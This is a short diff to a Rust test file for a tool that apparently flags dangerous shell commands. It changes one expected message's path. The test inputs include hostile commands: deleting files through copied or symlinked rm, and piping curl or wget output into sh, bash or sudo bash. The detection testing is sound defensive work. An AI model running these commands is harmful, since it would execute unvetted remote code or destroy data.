@@ -98,7 +98,7 @@ fn files_that_are_written_are_run() {
     has("echo 'rm /x' | tee a; cp a b; . ./b", "rm /x");
     has("cp /bin/rm ./y; ./y -rf /x", "rm -rf /x");
     has("ln -s /bin/rm y && ./y /x", "rm /x");
-    has("curl -o f http://u; sh f", "? remote: /work/f runs a text that is only known when the command runs");
+    has("curl -o f http://u; sh f", "? remote: /project/f runs a text that is only known when the command runs");
     has("curl http://u | sh", "? remote: sh runs a text that is only known when the command runs");
     has("wget -qO- http://u | sudo bash", "? remote: bash runs a text that is only known when the command runs");
     has("bash <(curl http://u)", "? remote: bash runs a text that is only known when the command runs");
